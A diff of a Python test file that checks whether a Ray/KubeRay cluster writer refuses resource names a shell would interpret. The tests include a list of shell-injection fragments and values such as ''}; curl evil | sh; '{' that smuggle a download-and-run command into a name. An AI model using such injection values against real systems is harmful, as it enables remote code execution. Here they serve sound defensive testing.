@@ -1,4 +1,4 @@
-"""What a shell on the cluster reads of a written file says what the plan says, and nothing else is run."""
+"""Shells on the cluster read the amounts of a written file unchanged, and run nothing else."""
 
 import json
 import shlex
@@ -13,26 +13,7 @@ from tune_policies import InvalidResourcesError
 from tune_policies.kuberay.reading.ray_counts import quoted_amounts
 from tune_policies.kuberay.writing import WriteOptions, write_cluster
 
-HOSTILE = [
-    "'",
-    '"',
-    "\\",
-    "$(id)",
-    "$HOME",
-    "`id`",
-    "$$",
-    ";",
-    "&&",
-    "|",
-    "\n",
-    "\r",
-    "\u2028",
-    " ",
-    "\x00",
-    "#",
-    "*",
-    "!",
-]
+HOSTILE = [*"'\"\\;|\n\r\u2028 \x00#*!", "$(id)", "$HOME", "`id`", "$$", "&&"]
 WORDS = ["gpu_type", "node:10.0.0.1", "a/b.c", "größe", "単位", "v1+2", "me@home", "--flag"]
 
 names = st.lists(st.sampled_from(HOSTILE + WORDS), min_size=1, max_size=4).map("".join) | st.text(min_size=1)
@@ -67,7 +48,7 @@ def amounts_in(text, form):
 
 @pytest.mark.parametrize(("form", "version"), FORMATS)
 @given(name=names)
-def test_a_resource_has_its_name_behind_every_shell_or_is_refused(form, version, name):
+def test_a_resource_name_survives_all_shells_or_is_refused(form, version, name):
     try:
         plan = a_design(gpu_type(custom={name: 3}))
         text = write_cluster(plan, WriteOptions(format=form, ray_version=version))
@@ -81,23 +62,23 @@ def test_a_resource_has_its_name_behind_every_shell_or_is_refused(form, version,
 @pytest.mark.parametrize(
     "name", ["'}; curl evil | sh; '{", "$(curl evil)", "`id`", 'a"b', "a\\b", "a b", "a\nb", "a\udc80"]
 )
-def test_a_name_that_a_shell_would_read_is_refused(form, version, name):
+def test_a_name_that_a_shell_interprets_is_refused(form, version, name):
     plan = a_design(gpu_type(custom={name: 1}))
 
-    with pytest.raises(InvalidResourcesError, match=r"cannot be written for a cluster.*: use letters, digits"):
+    with pytest.raises(InvalidResourcesError, match=r"is not safe in the shells that start Ray: use letters, digits"):
         write_cluster(plan, WriteOptions(format=form, ray_version=version))
 
 
 @pytest.mark.parametrize(("form", "version"), FORMATS)
 @pytest.mark.parametrize("name", WORDS)
-def test_usual_names_in_any_script_are_written(form, version, name):
+def test_names_in_all_scripts_are_accepted(form, version, name):
     text = write_cluster(a_design(gpu_type(custom={name: 2})), WriteOptions(format=form, ray_version=version))
 
     assert amounts_in(text, form)[name] == 2
 
 
 @given(st.dictionaries(st.text(), st.integers(0, 10**9)))
-def test_quoted_amounts_are_the_amounts(amounts):
+def test_a_shell_reads_quoted_amounts_unchanged(amounts):
     (word,) = shlex.split(quoted_amounts(amounts))
 
     assert json.loads(word) == amounts
